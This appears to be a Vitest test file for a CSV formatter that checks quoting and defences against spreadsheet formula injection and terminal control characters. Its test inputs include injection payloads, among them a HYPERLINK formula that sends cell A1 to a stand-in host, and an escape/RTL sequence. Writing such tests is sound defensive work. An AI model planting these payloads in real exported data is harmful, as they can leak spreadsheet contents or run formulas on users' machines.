import { expect, test } from 'vitest'
import { formatCsv } from './csv.ts'

test('records end with CRLF; quotes, commas and lines are quoted', () => {
  const rows = [['a "b"', 'c,d', 'e\nf', 'plain', 3, null, new Date(0)]]
  expect(formatCsv(['1', '2', '3', '4', '5', '6', '7'], rows)).toBe(
    '1,2,3,4,5,6,7\r\n"a ""b""","c,d","e\nf",plain,3,,1970-01-01T00:00:00.000Z\r\n',
  )
})

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '  =1',
  '\n=1',
  '＝1',
  '\tplain',
  '=HYPERLINK("http://host.example?"&A1)',
])('%j cannot become a formula', (text) => {
  const [, cell = ''] = formatCsv(['h'], [[text]]).split('h\r\n')
  expect(cell.replace(/^"/, '')).toMatch(/^'/)
})

/** As a spreadsheet reads it whose cells are separated otherwise: quotes inside a cell mean nothing. */
test.each([
  [';', 'a;=1+1'],
  [';', 'a; "=1+1'],
  [';', '";=HYPERLINK("http://host.example?"&A1)'],
  ['\t', 'a\t=1+1'],
  ['\t', 'a\t\t@SUM(A1)'],
  [';', 'first line\n=1+1'],
  [';', 'x;+1;-1;＝1'],
])('split at %j, no piece of %j is a formula', (separator, text) => {
  const file = formatCsv(['name', 'message'], [['Visitor', text]])
  const pieces = file.split(/\r\n|\n/).flatMap((line) => line.split(separator))
  for (const piece of pieces) expect(piece.replace(/^["\s]*/, '')).not.toMatch(/^[=+\-@＝＋－＠]/u)
})

test('semicolons and tabs are quoted', () => {
  expect(formatCsv(['h'], [['a;b'], ['a\tb']])).toBe('h\r\n"a;b"\r\n"a\tb"\r\n')
})

test('a number is a number', () => {
  expect(formatCsv(['h'], [[-1]])).toBe('h\r\n-1\r\n')
})

test('characters that steer a terminal are written out', () => {
  expect(formatCsv(['h'], [['a\u001b[31m\u202e']])).toBe('h\r\na\\x1b[31m\\u202e\r\n')
})
